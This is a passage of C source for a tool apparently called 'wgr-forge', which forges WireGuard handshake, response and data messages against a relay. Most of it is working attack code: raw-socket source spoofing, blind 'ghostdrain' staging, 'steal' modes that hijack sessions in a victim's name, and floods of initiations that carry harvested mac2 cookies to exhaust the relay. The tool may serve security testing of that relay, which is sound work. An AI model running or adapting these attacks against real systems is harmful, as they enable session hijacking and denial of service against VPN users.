			    uint8_t *msg, size_t size, uint32_t *staged)
{
	uint32_t s_index, r_index;

	s_index = marked ? marked_initiation(msg, k[0]) : make_initiation(msg, k[0]);
	send(a, msg, 148, 0);
	usleep(100000);
	r_index = make_response(msg, s_index, k[1]);
	if (spoofer_send(s, msg, 92))
		return -1;
	if (stage_wait(a, 2, msg, size) != 92 || get_le32(msg + 4) != r_index)
		return 0;
	if (staged)
		*staged = r_index;
	make_data(msg, r_index, 0);
	send(a, msg, 32, 0);
	for (int i = 1; i <= 3; i++) {	/* and keep it warm */
		usleep(300000);
		make_data(msg, r_index, (uint64_t)i);
		send(a, msg, 32, 0);
	}
	return 1;
}

static int spoofstage(int argc, char **argv)
{
	struct sockaddr_storage to;
	struct spoofer s;
	uint8_t k[2][32], msg[1600];
	long seconds = argc > 8 ? strtol(argv[8], NULL, 10) : 0, rounds = 0, passed = 0;
	double start = now_s();
	socklen_t len;
	int a, ret;

	if (argc < 8 || !(len = parse_ep(&to, argv[2], argv[3])) || !parse_keys(k, argv + 6, 2)) {
		fprintf(stderr, "usage: wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT "
				"PUB_TARGET PUB_VICTIM [SECONDS]\n");
		return 2;
	}
	ret = spoofer_open(&s, argv[4], argv[5], argv[2], argv[3]);
	if (ret)
		return ret;
	a = stage_socket(&to, len);
	do {
		rounds++;
		ret = spoof_stage_once(a, &s, k, false, msg, sizeof(msg), NULL);
		if (ret < 0)
			return 1;
		passed += ret;
		if (now_s() - start + 5 < seconds)
			sleep(5);
	} while (now_s() - start + 5 < seconds);
	printf("spoofstage: %ld rounds, %ld passed on by the relay\n", rounds, passed);
	return 0;
}

/*
 * Where drain's initiations come from: socket A, a UDP socket of its own, or
 * (ghostdrain) a forged source the attacker never receives at. @prove: A
 * initiates with the relay's mac2 once it has the relay's cookie (a cookie
 * reply to one of A's initiations without it), as a socket that receives at
 * its address can.
 */
struct drainer {
	int a;
	struct spoofer *ghost;
	bool prove;
	uint8_t cookie[16];
	double cookie_time;
	long stagings, passed, sent, with_mac2;
	uint32_t staged;
};

static bool drain_send(struct drainer *d, const uint8_t *msg, size_t len)
{
	if (d->ghost)
		return !spoofer_send(d->ghost, msg, len);
	return send(d->a, msg, len, 0) == (ssize_t)len;
}

/*
 * ghostdrain's staging, blind: a marked initiation to @k[0] "from" the ghost's
 * socket, a response naming @k[1] "from" @s's forged source, and the first data
 * and three more "from" the ghost's socket. Nothing comes back to the attacker,
 * so it cannot tell whether the relay took it. Return: 0, or -1 if a raw socket
 * failed.
 */
static int blind_stage_once(struct drainer *d, struct spoofer *s, uint8_t k[2][32], uint8_t *msg)
{
	uint32_t s_index = marked_initiation(msg, k[0]), r_index;

	if (!drain_send(d, msg, 148))
		return -1;
	usleep(100000);
	r_index = make_response(msg, s_index, k[1]);
	if (spoofer_send(s, msg, 92))
		return -1;
	for (int i = 0; i <= 3; i++) {
		usleep(i ? 300000 : 100000);
		make_data(msg, r_index, (uint64_t)i);
		if (!drain_send(d, msg, 32))
			return -1;
	}
	return 0;
}

/* Read what came back to A: keep the relay's cookie (@prove) and drop the rest. */
static void drain_read(struct drainer *d, const uint8_t *pub)
{
	uint8_t msg[1600];
	ssize_t n;

	if (d->ghost)
		return;
	while ((n = recv(d->a, msg, sizeof(msg), MSG_DONTWAIT)) > 0)
		if (d->prove && n == 64 && msg[0] == 3) {
			cookie_open(d->cookie, msg, pub);
			d->cookie_time = now_s();
		}
}

/*
 * drain and ghostdrain: stage a route from A in @k[1]'s name that ends at @s's
 * forged source, again 30 s after one passed (or blind: every 30 s), 5 s after
 * one did not; in between, @pps marked initiations a second along it.
 */
static int drain_run(struct drainer *d, struct spoofer *s, uint8_t k[2][32], long seconds,
		     long pps)
{
	double start = now_s(), restage = 0;
	struct timespec next;
	uint8_t msg[1600];
	int ret;

	signal(SIGTERM, slot_term);
	clock_gettime(CLOCK_MONOTONIC, &next);
	while (!slot_stop && now_s() - start < seconds) {
		if (now_s() >= restage) {
			d->stagings++;
			ret = d->ghost ? blind_stage_once(d, s, k, msg) :
					 spoof_stage_once(d->a, s, k, true, msg, sizeof(msg),
							  &d->staged);
			if (ret < 0)
				return 1;
			d->passed += ret;
			/* Its data keeps the session live for minutes: again in 30 s. */
			restage = now_s() + (ret || d->ghost ? 30 : 5);
			clock_gettime(CLOCK_MONOTONIC, &next);
			continue;
		}
		marked_initiation(msg, k[0]);
		/* A cookie older than 60 s is renewed: one without mac2 asks for it. */
		if (d->cookie_time && now_s() - d->cookie_time < 60) {
			set_mac2(msg, 148, d->cookie);
			d->with_mac2++;
		}
		if (drain_send(d, msg, 148))
			d->sent++;
		drain_read(d, k[0]);
		next_tick(&next, pps);
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	return 0;
}

/*
 * Enter the namespace WGR_FORGE_SPOOF_NETNS names, if set: sockets made
 * before stay where they were made. Return: 0, or 1 (reported).
 */
static int spoof_netns(void)
{
	const char *path = getenv("WGR_FORGE_SPOOF_NETNS");
	int fd;

	if (!path || !*path)
		return 0;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || setns(fd, CLONE_NEWNET)) {
		fprintf(stderr, "wgr-forge: WGR_FORGE_SPOOF_NETNS %s: %s\n", path, strerror(errno));
		if (fd >= 0)
			close(fd);
		return 1;
	}
	close(fd);
	return 0;
}

/* wgr-forge drain and ghostdrain: see the top of this file. */
static int drain(int argc, char **argv, bool blind)
{
	int base = blind ? 6 : 4, nargs = base + 6;
	struct drainer d = { .a = -1 };
	struct sockaddr_storage to;
	struct spoofer s, ghost;
	uint8_t k[2][32];
	long seconds, pps;
	socklen_t len;
	int ret;

	if ((argc != nargs && (blind || argc != nargs + 1 || strcmp(argv[nargs], "prove"))) ||
	    !(len = parse_ep(&to, argv[2], argv[3])) || !parse_keys(k, argv + base + 2, 2) ||
	    (seconds = strtol(argv[base + 4], NULL, 10)) <= 0 || seconds > 3600 ||
	    (pps = strtol(argv[base + 5], NULL, 10)) <= 0 || pps > 1000) {
		if (blind)
			fprintf(stderr, "usage: wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT "
					"SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS(1..3600) "
					"PPS(1..1000)\n");
		else
			fprintf(stderr, "usage: wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT "
					"PUB_TARGET PUB_VICTIM SECONDS(1..3600) PPS(1..1000) [prove]\n");
		return 2;
	}
	if (!blind)
		d.a = stage_socket(&to, len);
	ret = spoof_netns() ?: spoofer_open(&s, argv[base], argv[base + 1], argv[2], argv[3]);
	if (ret)
		return ret;
	if (blind) {
		ret = spoofer_open(&ghost, argv[4], argv[5], argv[2], argv[3]);
		if (ret)
			return ret;
		d.ghost = &ghost;
	} else {
		d.prove = argc == nargs + 1;
	}
	ret = drain_run(&d, &s, k, seconds, pps);
	if (blind)
		printf("ghostdrain: %ld blind stagings; %ld initiations along them\n", d.stagings,
		       d.sent);
	else
		printf("drain: %ld stagings, %ld passed on by the relay; %ld initiations along them,"
		       " %ld with the relay's mac2; last staged index %08x\n", d.stagings, d.passed,
		       d.sent, d.with_mac2, d.staged);
	return ret;
}

/* wgr-forge respdrain: see the top of this file. */
static int respdrain(int argc, char **argv)
{
	struct respdrain rd = { .fd = { -1, -1 } };
	struct sockaddr_storage to;
	long seconds = 0, pps = 0;
	struct spoofer s;
	socklen_t len = 0;
	int ret;

	if (argc != 12 || !(len = parse_ep(&to, argv[2], argv[3])) ||
	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
	    !key_from_base64(rd.laptop, argv[8]) ||
	    (pps = strtol(argv[11], NULL, 10)) <= 0 || pps > 1000) {
		fprintf(stderr, "usage: wgr-forge respdrain ADDR PORT SECONDS(1..3600) PUB_BAIT "
				"PUB_TARGET PUB_X PUB_LAPTOP L_ADDR L_PORT PPS(1..1000)\n");
		return 2;
	}
	rd.fd[0] = stage_socket(&to, len);
	rd.fd[1] = stage_socket(&to, len);
	ret = spoof_netns() ?: spoofer_open(&s, argv[9], argv[10], argv[2], argv[3]);
	if (ret)
		return ret;
	rd.spoof = &s;
	rd.period = 1.0 / (double)pps;
	signal(SIGTERM, slot_term);
	return hold(&to, len, seconds, argv + 5, NULL, false, NULL, NULL, NULL, 0, &rd);
}

/* wgr-forge steal: see the top of this file. */
enum steal_kind { STEAL_ROAM, STEAL_BACK, STEAL_FORGE, STEAL_PRIME };

static int steal(int argc, char **argv, enum steal_kind kind)
{
	uint32_t held[HOLD_MAX], s_index, r_index, prime_index = 0;
	uint64_t counter = 1u << 20;
	struct spoofer from_v, from_q;
	struct sockaddr_storage to;
	uint8_t q[32], v[32], msg[1600];
	long seconds, reached = 0, n_held = 0, primes = 0, mac2 = 0;
	double start = now_s(), next, next_prime, next_candidate;
	struct hsock zs = {};
	long answers = 1;
	socklen_t len;
	int z;

	if (argc < 11 || argc > 12 || !(len = parse_ep(&to, argv[2], argv[3])) ||
	    !key_from_base64(q, argv[8]) || !key_from_base64(v, argv[9]) ||
	    (seconds = strtol(argv[10], NULL, 10)) <= 0 || seconds > 3600 ||
	    (argc == 12 && ((answers = strtol(argv[11], NULL, 10)) < 1 || answers > 4))) {
		fprintf(stderr, "usage: wgr-forge %s ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT "
				"PUB_Q PUB_V SECONDS(1..3600) [ANSWERS(1..4)]\n", argv[1]);
		return 2;
	}
	if (spoofer_open(&from_v, argv[4], argv[5], argv[2], argv[3]) ||
	    spoofer_open(&from_q, argv[6], argv[7], argv[2], argv[3]))
		return 1;
	z = stage_socket(&to, len);

	s_index = make_initiation(msg, q);
	if (spoofer_send(&from_v, msg, 148))
		return 1;
	usleep(200000);
	r_index = make_response(msg, s_index, v);
	if (spoofer_send(&from_q, msg, 92))
		return 1;
	usleep(200000);
	make_data(msg, r_index, 0);
	if (spoofer_send(&from_v, msg, 32))
		return 1;
	usleep(200000);
	held[n_held++] = s_index;
	next = next_prime = next_candidate = now_s();
	zs.fd = z;
	while (now_s() - start < seconds) {
		struct pollfd pfd = { .fd = z, .events = POLLIN };
		ssize_t n;

		if (kind == STEAL_PRIME && now_s() >= next_candidate) {
			/* For V, so that Z may be sent copies of initiations for Q. */
			fill_random(&s_index, sizeof(s_index));
			hsock_initiate(&zs, v, s_index, &mac2);
			/* At once again once the cookie is in, then every 10 s. */
			next_candidate = now_s() + (zs.cookie_time ? 10 : 1);
		}
		if (kind == STEAL_PRIME && !reached && now_s() >= next_prime) {
			/* "From" V, for Q: it follows the route to Z, and counted as V's. */
			prime_index = make_initiation(msg, q);
			if (spoofer_send(&from_v, msg, 148))
				return 1;
			primes++;
			next_prime += 5;
		}
		if (now_s() >= next) {
			/*
			 * Q's side of every session it holds, from Z (the first one
			 * roams there), or "from" V itself.
			 */
			for (long i = 0; i < n_held; i++) {
				make_data(msg, held[i], counter++);
				if (kind == STEAL_BACK)
					spoofer_send(&from_v, msg, 32);
				else
					send(z, msg, 32, 0);
			}
			next += 5;
		}
		if (poll(&pfd, 1, 200) <= 0)
			continue;
		n = recv(z, msg, sizeof(msg), MSG_DONTWAIT);
		if (n == 64 && msg[0] == 3 && zs.last_pub && get_le32(msg + 4) == zs.last_sender) {
			/* The relay's cookie for Z: its key is V's public key. */
			cookie_open(zs.cookie, msg, zs.last_pub);
			zs.cookie_time = now_s();
			next_candidate = now_s();
			continue;
		}
		if (n != 148 || msg[0] != 1 || (primes && get_le32(msg + 4) == prime_index))
			continue;
		reached++;
		s_index = get_le32(msg + 4);
		/* In Q's name, at once: the answers Q's endpoint may give are spent. */
		for (long i = 0; (kind == STEAL_FORGE || kind == STEAL_PRIME) && i < 2; i++) {
			make_response(msg, s_index, v);
			if (spoofer_send(&from_q, msg, 92))
				return 1;
		}
		for (long i = 0; i < answers; i++) {
			r_index = make_response(msg, s_index, v);
			send(z, msg, 92, 0);
		}
		/*
		 * Priming leaves the new session unconfirmed, and unheld: a
		 * confirmation "from" V would end V's run of failing tries (and
		 * Z's candidacy), and the old rule would look as if it held.
		 */
		if (kind == STEAL_PRIME)
			continue;
		if (n_held < HOLD_MAX)
			held[n_held++] = s_index;
		usleep(100000);
		make_data(msg, r_index, 0);
		if (spoofer_send(&from_v, msg, 32))
			return 1;
		/*
		 * That confirmation (V's at Z) ended Z's candidacy for V: ask
		 * again, once the relay has it.
		 */
		usleep(50000);
		next_candidate = now_s();
	}
	printf("steal: %ld initiations reached the spoofer's socket, %ld sessions held\n",
	       reached, n_held);
	if (kind == STEAL_PRIME)
		printf("prime: %ld initiations spoofed from V, %ld for V from Z with mac2\n",
		       primes, mac2);
	return 0;
}

/* An even stream of handshake junk from several ports of one host. */
static int mix(int argc, char **argv)
{
	struct sockaddr_storage to;
	struct timespec next;
	uint8_t pub[32], msg[1600];
	long seconds, pps, nports, sent = 0;
	int fds[16];
	socklen_t len;

	if (argc != 8 || !(len = parse_ep(&to, argv[2], argv[3])) ||
	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
	    !key_from_base64(pub, argv[6]) ||
	    (nports = strtol(argv[7], NULL, 10)) <= 0 || nports > 16) {
		fprintf(stderr, "usage: wgr-forge mix ADDR PORT SECONDS(1..3600) PPS(1..10000) "
				"PUBKEY NPORTS(1..16)\n");
		return 2;
	}
	for (long i = 0; i < nports; i++) {
		fds[i] = socket(to.ss_family, SOCK_DGRAM, 0);
		if (fds[i] < 0)
			return perror("socket"), 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (long k = 0; k < seconds * pps; k++) {
		const char *mode = k % 4 == 0 ? "initiation" : k % 2 ? "response" : "cookie";
		size_t n = make(mode, msg, pub);

		if (sendto(fds[k % nports], msg, n, 0, (struct sockaddr *)&to, len) >= 0)
			sent++;
		next_tick(&next, pps);
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	printf("mix: %ld datagrams sent\n", sent);
	return 0;
}

/* A session table filled with pairs whose both ends are this host. */
static int fill(int argc, char **argv, bool chain)
{
	struct sockaddr_storage to;
	struct timespec next;
	uint8_t target[32], names[8][32], msg[1600];
	long seconds, pps, bport, nports, nnames = argc - 9;
	long inits = 0, copies = 0, passed = 0;
	int fds[17], k = 0, name = 0;
	uint32_t chain_index;
	socklen_t len;

	if (argc < 10 || nnames > 8 || !(len = parse_ep(&to, argv[2], argv[3])) ||
	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
	    (bport = strtol(argv[6], NULL, 10)) <= 0 || bport > 65535 ||
	    (nports = strtol(argv[7], NULL, 10)) <= 0 || nports > 16 ||
	    !key_from_base64(target, argv[8]) || !parse_keys(names, argv + 9, (int)nnames)) {
		fprintf(stderr, "usage: wgr-forge %s ADDR PORT SECONDS(1..3600) PPS(1..10000) "
				"BPORT NPORTS(1..16) PUB_TARGET PUB_NAME... (1..8 names)\n", argv[1]);
		return 2;
	}
	fill_random(&chain_index, sizeof(chain_index));
	for (long i = 0; i <= nports; i++) {
		fds[i] = socket(to.ss_family, SOCK_DGRAM, 0);
		if (fds[i] < 0)
			return perror("socket"), 1;
	}
	/* B, at the port the relay has TARGET's static endpoint at. */
	if (bind_port(fds[nports], &to, len, bport))
		return perror("wgr-forge: fill: bind B"), 1;
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (double end = now_s() + seconds; now_s() < end;) {
		struct pollfd pfd[17];
		uint32_t sender;

		fill_random(&sender, sizeof(sender));
		initiation_from(msg, target, chain ? chain_index : sender);
		if (sendto(fds[k], msg, 148, 0, (struct sockaddr *)&to, len) >= 0)
			inits++;
		k = (k + 1) % (int)nports;
		next_tick(&next, pps);
		/* Answer and confirm whatever came in until the next initiation is due. */
		for (;;) {
			struct timespec t;
			long wait_ms;

			clock_gettime(CLOCK_MONOTONIC, &t);
			wait_ms = (next.tv_sec - t.tv_sec) * 1000 + (next.tv_nsec - t.tv_nsec) / 1000000;
			if (wait_ms < 0)
				break;
			for (long i = 0; i <= nports; i++)
				pfd[i] = (struct pollfd){ .fd = fds[i], .events = POLLIN };
			if (poll(pfd, nports + 1, (int)wait_ms) <= 0)
				break;
			for (long i = 0; i <= nports; i++) {
				ssize_t n;

				if (!(pfd[i].revents & POLLIN))
					continue;
				n = recv(fds[i], msg, sizeof(msg), MSG_DONTWAIT);
				if (i == nports && n == 148 && msg[0] == 1) {
					copies++;
					make_response(msg, get_le32(msg + 4), names[name]);
					name = (name + 1) % (int)nnames;
					sendto(fds[i], msg, 92, 0, (struct sockaddr *)&to, len);
				} else if (i < nports && n == 92 && msg[0] == 2) {
					passed++;
					make_data(msg, get_le32(msg + 4), 0);
					sendto(fds[i], msg, 32, 0, (struct sockaddr *)&to, len);
				}
			}
		}
	}
	printf("%s: %ld initiations, %ld copies at B, %ld responses passed on and confirmed\n",
	       argv[1], inits, copies, passed);
	return 0;
}

static int late(int argc, char **argv)
{
	struct timeval tv = { .tv_sec = 3 };
	struct sockaddr_storage to;
	uint8_t target[32], name[32], msg[1600];
	long bport, delay;
	uint32_t index;
	socklen_t len;
	int a, b;

	if (argc != 8 || !(len = parse_ep(&to, argv[2], argv[3])) ||
	    (bport = strtol(argv[4], NULL, 10)) <= 0 || bport > 65535 ||
	    (delay = strtol(argv[5], NULL, 10)) < 0 || delay > 600 ||
	    !key_from_base64(target, argv[6]) || !key_from_base64(name, argv[7])) {
		fprintf(stderr, "usage: wgr-forge late ADDR PORT BPORT DELAY(0..600) PUB_TARGET "
				"PUB_NAME\n");
		return 2;
	}
	a = stage_socket(&to, len);
	b = socket(to.ss_family, SOCK_DGRAM, 0);
	if (b < 0 || bind_port(b, &to, len, bport) ||
	    setsockopt(b, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) ||
	    connect(b, (const struct sockaddr *)&to, len))
		return perror("wgr-forge: late: socket B"), 1;
	make("initiation", msg, target);
	if (send(a, msg, 148, 0) < 0)
		return perror("send"), 1;
	if (stage_wait(b, 1, msg, sizeof(msg)) != 148) {
		fprintf(stderr, "wgr-forge: late: B got no initiation\n");
		return 1;
	}
	make_response(msg, get_le32(msg + 4), name);
	if (send(b, msg, 92, 0) < 0)
		return perror("send"), 1;
	if (stage_wait(a, 2, msg, sizeof(msg)) != 92) {
		fprintf(stderr, "wgr-forge: late: A got no response\n");
		return 1;
	}
	index = get_le32(msg + 4);
	sleep((unsigned int)delay);
	make_data(msg, index, 0);
	if (send(a, msg, 32, 0) < 0)
		return perror("send"), 1;
	printf("late: data on %08x, %ld s after the response\n", index, delay);
	return 0;
}

/* Initiations the relay must scan every peer for, each with a valid relay mac2. */
static int mac2junk(int argc, char **argv, bool named)
{
	struct sockaddr_storage to, from;
	static uint8_t cookies[1000][16];
	static int fds[1000];
	uint8_t pub[32], msg[1600];
	long seconds, pps, nports, nprefixes = 1, sent = 0;
	int with_cookie = 0;
	struct timespec next;
	socklen_t len;

	if (argc < 8 || argc > 10 || !(len = parse_ep(&to, argv[2], argv[3])) ||
	    (argc >= 9 && parse_ep(&from, argv[8], "0") != len) ||
	    (argc == 10 && ((nprefixes = strtol(argv[9], NULL, 10)) <= 0 || nprefixes > 1000 ||
			    !prefix_step(&stage_from, &from, nprefixes - 1))) ||
	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
	    (nports = strtol(argv[6], NULL, 10)) <= 0 || nports > 1000 ||
	    !key_from_base64(pub, argv[7])) {
		fprintf(stderr, "usage: wgr-forge %s ADDR PORT SECONDS(1..3600) PPS(1..10000) "
				"NPORTS(1..1000) PUBKEY [FROM, of ADDR's family [NPREFIXES(1..1000)]]\n",
			argv[1]);
		return 2;
	}
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (long i = 0; i < nports; i++) {
		int got = 0;

		next_tick(&next, 50);
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
		if (argc >= 9)
			prefix_step(&stage_from, &from, i % nprefixes);
		fds[with_cookie] = stage_socket(&to, len);
		/* The relay answers a mac1-valid initiation without mac2 with its cookie. */
		for (int try = 0; try < 5 && !got; try++) {
			if (send(fds[with_cookie], msg, make("initiation", msg, pub), 0) < 0)
				return perror("wgr-forge: mac2junk"), 1;
			if (stage_wait(fds[with_cookie], 3, msg, sizeof(msg)) == 64) {
				cookie_open(cookies[with_cookie], msg, pub);
				got = 1;
			}
		}
		if (got)
			with_cookie++;
		else
			close(fds[with_cookie]);
	}
	printf("%s: %d of %ld ports have the relay's cookie\n", argv[1], with_cookie, nports);
	fflush(stdout);
	if (!with_cookie)
		return 1;
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (long k = 0; k < seconds * pps; k++) {
		int i = (int)(k % with_cookie);

		make("initiation", msg, pub);
		if (!named)
			fill_random(msg + 116, 16);	/* nobody's mac1 */
		set_mac2(msg, 148, cookies[i]);
		if (send(fds[i], msg, 148, 0) >= 0)
			sent++;
		next_tick(&next, pps);
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
	printf("%s: %ld initiations with mac2 sent\n", argv[1], sent);
	return 0;
}

/* HChaCha20 against draft-irtf-cfrg-xchacha-03's vector; the AEAD against two. */
static int selftest(void)
{
	static const uint8_t hn[16] = { 0, 0, 0, 0x09, 0, 0, 0, 0x4a, 0, 0, 0, 0, 0x31, 0x41, 0x59, 0x27 };
	static const uint8_t hout[32] = {
		0x82, 0x41, 0x3b, 0x42, 0x27, 0xb2, 0x7b, 0xfe, 0xd3, 0x0e, 0x42, 0x50, 0x8a, 0x87, 0x7d, 0x73,
		0xa0, 0xf9, 0xe4, 0xd5, 0x8a, 0x74, 0xa8, 0x53, 0xc1, 0x2e, 0xc4, 0x13, 0x26, 0xd3, 0xec, 0xdc };
	static const uint8_t sealed[32] = {
		0xe1, 0x1d, 0x61, 0xe7, 0x4f, 0xe5, 0xe2, 0x4d, 0xe3, 0x0b, 0x6d, 0xc8, 0xea, 0xb3, 0x83, 0x4a,
		0xc2, 0xe2, 0x31, 0x1d, 0x9b, 0xc6, 0x45, 0xb7, 0x14, 0x72, 0x0f, 0x94, 0xb7, 0x05, 0x95, 0x1a };
	static const uint8_t sealed2[53] = {
		0xc1, 0x3d, 0x41, 0xc7, 0x6f, 0xc5, 0xc2, 0x6d, 0xc3, 0x2b, 0x4d, 0xe8, 0xca, 0x93, 0xa3, 0x6a,
		0x72, 0x06, 0x30, 0x2d, 0x41, 0x01, 0xda, 0xab, 0x82, 0xf3, 0xbf, 0x47, 0x0e, 0x18, 0x43, 0x87,
		0x50, 0x6d, 0x42, 0x2e, 0x7f, 0x17, 0x37, 0x2a, 0x68, 0x18, 0xf5, 0xac, 0x44, 0x30, 0x47, 0x01,
		0x65, 0xb8, 0xb6, 0x70, 0x33 };
	uint8_t key[32], out[32], nonce[24], ad[16], buf[32], buf2[53];
	uint8_t reply[64], cookie[16];

	for (int i = 0; i < 32; i++)
		key[i] = (uint8_t)i;
	hchacha20(out, key, hn);
	if (memcmp(out, hout, 32)) {
		fprintf(stderr, "selftest: hchacha20 differs\n");
		return 1;
	}
	/*
	 * XChaCha20-Poly1305, made with Python's cryptography (its ChaCha20Poly1305
	 * under the HChaCha20 subkey): a cookie's 16 bytes under 16 of associated
	 * data, and lengths that end in partial blocks.
	 */
	for (int i = 0; i < 32; i++) {
		key[i] = (uint8_t)(0x80 + i);
		buf[i] = (uint8_t)(0x40 + i);
	}
	memcpy(nonce, buf, 24);
	for (int i = 0; i < 16; i++) {
		buf[i] = (uint8_t)(0x10 + i);
		ad[i] = (uint8_t)(0xa0 + i);
	}
	xchacha20poly1305_seal(buf, 16, ad, 16, nonce, key);
	for (int i = 0; i < 37; i++)
		buf2[i] = (uint8_t)(0x30 + i);
	for (int i = 0; i < 7; i++)
		ad[i] = (uint8_t)(0xc0 + i);
	xchacha20poly1305_seal(buf2, 37, ad, 7, nonce, key);
	if (memcmp(buf, sealed, sizeof(sealed)) || memcmp(buf2, sealed2, sizeof(sealed2))) {
		fprintf(stderr, "selftest: xchacha20poly1305 differs\n");
		return 1;
	}
	/* respdrain's tag check: a reply sealed for this mac1 opens, for another not. */
	cookie_forge(reply, 1, ad, key);
	if (!cookie_open_checked(cookie, reply, ad, key)) {
		fprintf(stderr, "selftest: a cookie reply's tag does not check\n");
		return 1;
	}
	ad[0] ^= 1;
	if (cookie_open_checked(cookie, reply, ad, key)) {
		fprintf(stderr, "selftest: a cookie reply's tag checks for the wrong mac1\n");
		return 1;
	}
	ad[0] ^= 1;
	reply[32 + 16] ^= 0x80;
	if (cookie_open_checked(cookie, reply, ad, key)) {
		fprintf(stderr, "selftest: a cookie reply with a wrong tag checks\n");
		return 1;
	}
	printf("selftest: ok\n");
	return 0;
}

/*
 * cookieprobe: is the WireGuard peer at ADDR:PORT under load? One initiation with
 * a valid mac1 for PUBKEY: a peer under load answers it with a cookie reply.
 * With SRCPORT, sent from that port, and the cookie printed: it is a keyed hash
 * of the source address and port under the peer's secret, so the same cookie
 * from the same port means the same secret, and a new one a renewed secret
 * (WireGuard renews it every two minutes).
 */
static int cookieprobe(int argc, char **argv)
{
	struct sockaddr_storage ss = { 0 };
	uint8_t pub[32], msg[1600], cookie[16];
	long src_port = argc == 6 ? strtol(argv[5], NULL, 10) : 0;
	socklen_t sslen;
	int fd;

	if ((argc != 5 && argc != 6) || !(sslen = parse_ep(&ss, argv[2], argv[3])) ||
	    !key_from_base64(pub, argv[4]) || src_port < 0 || src_port > 65535 ||
	    (argc == 6 && !src_port)) {
		fprintf(stderr, "usage: wgr-forge cookieprobe ADDR PORT PUBKEY [SRCPORT(1..65535)]\n");
		return 2;
	}
	if (src_port) {
		stage_from.ss_family = ss.ss_family;
		set_port(&stage_from, htons((uint16_t)src_port));
	}
	fd = stage_socket(&ss, sslen);
	if (send(fd, msg, make("initiation", msg, pub), 0) < 0) {
		perror("wgr-forge: cookieprobe");
		return 1;
	}
	/* stage_socket() gives up after 3 s without anything. */
	if (stage_wait(fd, 3, msg, sizeof(msg)) != 64) {
		printf("cookieprobe: no cookie reply: not under load\n");
		return 1;
	}
	printf("cookieprobe: a cookie reply: under load");
	if (src_port) {
		cookie_open(cookie, msg, pub);
		printf("; cookie ");
		for (size_t i = 0; i < sizeof(cookie); i++)
			printf("%02x", cookie[i]);
	}
	printf("\n");
	return 0;
}

int main(int argc, char *argv[])
{
	struct sockaddr_storage ss = { 0 };
	struct sockaddr_in *sin = (struct sockaddr_in *)&ss;
	struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)&ss;
	static uint8_t pubs[1024][32];
	uint8_t pub[32] = { 0 }, msg[1600];
	long count, pps, npubs = 0;
	socklen_t sslen;
	int fd;

	if (argc == 2 && !strcmp(argv[1], "selftest"))
		return selftest();
	if (argc >= 2 && !strcmp(argv[1], "mix"))
		return mix(argc, argv);
	if (argc >= 2 && (!strcmp(argv[1], "fill") || !strcmp(argv[1], "chain")))
		return fill(argc, argv, !strcmp(argv[1], "chain"));
	if (argc >= 2 && !strcmp(argv[1], "late"))
		return late(argc, argv);
	if (argc >= 2 && (!strcmp(argv[1], "mac2junk") || !strcmp(argv[1], "mac2for")))
		return mac2junk(argc, argv, !strcmp(argv[1], "mac2for"));
	if (argc >= 2 && !strcmp(argv[1], "cookieprobe"))
		return cookieprobe(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "onedata"))
		return onedata(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "cookieslot"))
		return cookieslot(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "cookieplant"))
		return cookieplant(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "spoof"))
		return spoof(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "srcflood"))
		return srcflood(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "thinflood"))
		return thinflood(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
		return spoofstage(argc, argv);
	if (argc >= 2 && (!strcmp(argv[1], "drain") || !strcmp(argv[1], "ghostdrain")))
		return drain(argc, argv, !strcmp(argv[1], "ghostdrain"));
	if (argc >= 2 && !strcmp(argv[1], "respdrain"))
		return respdrain(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "steal"))
		return steal(argc, argv, STEAL_ROAM);
	if (argc >= 2 && !strcmp(argv[1], "stealback"))
		return steal(argc, argv, STEAL_BACK);
	if (argc >= 2 && !strcmp(argv[1], "stealforge"))
		return steal(argc, argv, STEAL_FORGE);
	if (argc >= 2 && !strcmp(argv[1], "stealprime"))
		return steal(argc, argv, STEAL_PRIME);
	if (argc >= 2 && (!strcmp(argv[1], "hold") || !strcmp(argv[1], "holdself"))) {
		long secs = argc == 8 ? strtol(argv[4], NULL, 10) : 0;

		if (secs <= 0 || secs > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3]))) {
			fprintf(stderr, "usage: wgr-forge hold ADDR PORT SECONDS(1..3600) "
					"PUB_BAIT PUB_TARGET PUB_VICTIM\n");
			return 2;
		}
		return hold(&ss, sslen, secs, argv + 5, NULL, !strcmp(argv[1], "holdself"),
			    NULL, NULL, NULL, 0, NULL);
	}
	if (argc >= 2 && !strcmp(argv[1], "holdconfirm")) {
		long secs = argc >= 12 && argc <= 20 ? strtol(argv[4], NULL, 10) : 0;
		struct spoofer from_victim, from_target;

